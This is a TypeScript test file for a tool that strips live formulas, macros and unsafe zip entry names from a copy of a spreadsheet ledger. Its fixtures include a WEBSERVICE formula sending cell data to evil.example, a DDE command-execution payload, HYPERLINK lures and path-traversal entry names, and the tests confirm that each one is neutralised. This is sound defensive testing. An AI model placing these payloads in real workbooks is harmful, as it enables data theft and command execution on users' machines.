// 发送副本 of a hostile workbook (generated, never committed): live formulas become values, macros go
// unless kept, unsafe entry names are never copied, and 100,000 XML comments are scanned in one pass.
import { minimalWorkbookEntries, rawZip, type RawEntry } from '../../../test/support/hostile';
import { isLedgerError } from '../../ledger/errors';
import { freezeZgFormulas, type FreezeOptions, type FreezeResult } from './freeze';
import { liveFormula } from './freezeXml';
import { partText, unzipXlsx } from './package';

const SHEET = (cells: string) =>
  `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">${cells}</row></sheetData></worksheet>`;

function freeze(entries: RawEntry[], options: FreezeOptions = {}): FreezeResult {
  const result = freezeZgFormulas(rawZip(entries), '台账.xlsx', options);
  if (isLedgerError(result)) throw new Error(result.message);
  return result;
}

describe('liveFormula', () => {
  test.each([
    ['_xlfn.WEBSERVICE("http://evil.example/?"&A1)', 'WEBSERVICE'],
    ['FILTERXML(WEBSERVICE(A1),"//x")', 'WEBSERVICE'],
    ['RTD("srv",,"x")', 'WEBSERVICE'],
    ["cmd|'/c calc'!A0", 'DDE'],
    ["=cmd|'/c calc'!A0+1", 'DDE'],
    ['msexcel|sheet1!R1C1', 'DDE'],
    ['HYPERLINK("http://evil.example","点此")', 'HYPERLINK'],
    ['HYPERLINK(A1,"点此")', 'HYPERLINK'],
    ['HYPERLINK("#整改台账!A1","跳转")', null],
    ['SUM(A1:A3)&"WEBSERVICE(x)"&"a|b!c"', null],
    ["'整改|台账'!A1", null],
    ['COUNTIFS(ZG_Measures[整改状态],"已完成")', null],
  ])('%s → %s', (formula, kind) => expect(liveFormula(formula)).toBe(kind));
});

describe('freezeZgFormulas on a hostile workbook', () => {
  const cells =
    '<c r="A1" t="str"><f>_xlfn.WEBSERVICE("http://evil.example/"&amp;B1)</f><v>已取回</v></c>' +
    "<c r=\"B1\"><f>cmd|'/c calc'!A0</f><v>0</v></c>" +
    '<c r="C1" t="str"><f>HYPERLINK("http://evil.example","点此查看")</f><v>点此查看</v></c>' +
    '<c r="D1" t="str"><f>HYPERLINK("#Sheet1!A1","回到顶部")</f><v>回到顶部</v></c>' +
    '<c r="E1"><f>SUM(1,2)</f><v>3</v></c>';

  test('live formulas become their values, each named; internal links and other formulas stay', () => {
    const result = freeze(minimalWorkbookEntries(SHEET(cells)));
    expect(result.live).toEqual([
      { cell: 'Sheet1!A1', kind: 'WEBSERVICE' },
      { cell: 'Sheet1!B1', kind: 'DDE' },
      { cell: 'Sheet1!C1', kind: 'HYPERLINK' },
    ]);
    const xml = partText(unzipXlsx(result.bytes), 'xl/worksheets/sheet1.xml') ?? '';
    expect(xml).not.toMatch(/WEBSERVICE|calc|evil/);
    expect(xml).toContain('已取回');
    expect(xml).toContain('<f>HYPERLINK("#Sheet1!A1","回到顶部")</f>');
    expect(xml).toContain('<f>SUM(1,2)</f>');
  });

  test.each([
    ['a quoted /> in the cell’s attributes', `<c r="A1" b='x/>'><f>WEBSERVICE("http://evil.example")</f><v>1</v></c>`, `<c r="A1" b='x/>'><v>1</v></c>`],
    ['a quoted /> in the formula’s attributes', `<c r="A1"><f x='/>'>WEBSERVICE("http://evil.example")</f><v>1</v></c>`, '<c r="A1"><v>1</v></c>'],
    ['a quoted > in the cell’s attributes', `<c r="A1" x="a>b"><f>WEBSERVICE("http://evil.example")</f><v>1</v></c>`, '<c r="A1" x="a>b"><v>1</v></c>'],
    ["t='str' inside another attribute's value", `<c r="A1" x=" t='str'" t="str"><f>WEBSERVICE("http://evil.example")</f><v>取回</v></c>`, `<c r="A1" x=" t='str'" t="inlineStr"><is><t xml:space="preserve">取回</t></is></c>`],
    ["cm='1' inside another attribute's value", `<c r="A1" x=" cm='1'" cm="1"><f>WEBSERVICE("http://evil.example")</f><v>1</v></c>`, `<c r="A1" x=" cm='1'"><v>1</v></c>`],
    ['the formula in CDATA', '<c r="A1"><f><![CDATA[WEBSERVICE("http://evil.example")]]></f><v>1</v></c>', '<c r="A1"><v>1</v></c>'],
  ])('a live formula behind %s still becomes its value, other attributes intact', (_, cell, frozen) => {
    const result = freeze(minimalWorkbookEntries(SHEET(cell)));
    expect(result.live).toEqual([{ cell: 'Sheet1!A1', kind: 'WEBSERVICE' }]);
    expect(partText(unzipXlsx(result.bytes), 'xl/worksheets/sheet1.xml')).toContain(`<row r="1">${frozen}</row>`);
  });

  const macroEntries = (): RawEntry[] => {
    const [types, ...rest] = minimalWorkbookEntries();
    const typesXml = String(types.data)
      .replace('spreadsheetml.sheet.main+xml', 'x')
      .replace('application/vnd.openxmlformats-officedocument.x', 'application/vnd.ms-excel.sheet.macroEnabled.main+xml')
      .replace('</Types>', '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>');
    const rels = rest.find((e) => e.name === 'xl/_rels/workbook.xml.rels')!;
    const relsXml = String(rels.data).replace('</Relationships>', '<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>');
    return [{ ...types, data: typesXml }, ...rest.map((e) => (e === rels ? { ...e, data: relsXml } : e)), { name: 'xl/vbaProject.bin', data: new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 1, 2, 3]) }];
  };

  test('macros are dropped, also from a copy named .xlsx with the macro content type', () => {
    const result = freeze(macroEntries());
    expect(result.macros).toBe('dropped');
    const parts = unzipXlsx(result.bytes);
    expect(Object.keys(parts)).not.toContain('xl/vbaProject.bin');
    expect(partText(parts, '[Content_Types].xml')).not.toMatch(/macroEnabled|vbaProject/);
    expect(partText(parts, '[Content_Types].xml')).toContain('spreadsheetml.sheet.main+xml');
    expect(partText(parts, 'xl/_rels/workbook.xml.rels')).not.toContain('vbaProject');
  });

  test('--keep-macros keeps them', () => {
    const result = freeze(macroEntries(), { keepMacros: true });
    expect(result.macros).toBe('kept');
    expect(Object.keys(unzipXlsx(result.bytes))).toContain('xl/vbaProject.bin');
  });

  test('entry names with .., absolute paths or backslashes are not copied, and are named', () => {
    const unsafe = ['../../evil.txt', '/tmp/evil.txt', 'xl\\evil.xml'];
    const result = freeze([...minimalWorkbookEntries(), ...unsafe.map((name) => ({ name, data: 'x' }))]);
    expect(result.unsafeEntries).toEqual(unsafe);
    expect(Object.keys(unzipXlsx(result.bytes, { onUnsafeName: () => { throw new Error('unsafe name copied'); } })).sort()).toEqual(
      minimalWorkbookEntries().map((e) => e.name).sort(),
    );
  });

  test('100,000 XML comments holding unclosed tags: the ZG cell after them is still frozen', () => {
    const comments = '<!--<c r="A1"><f>-->'.repeat(50_000) + '<!--<conditionalFormatting>-->'.repeat(50_000);
    const result = freeze(minimalWorkbookEntries(SHEET(`${comments}<c r="B1"><f>_xldudf_ZG_DAYSLEFT(A1)</f><v>7</v></c>`)));
    expect(result.replaced).toBe(1);
    expect(partText(unzipXlsx(result.bytes), 'xl/worksheets/sheet1.xml')).toContain('<c r="B1"><v>7</v></c>');
  });
});
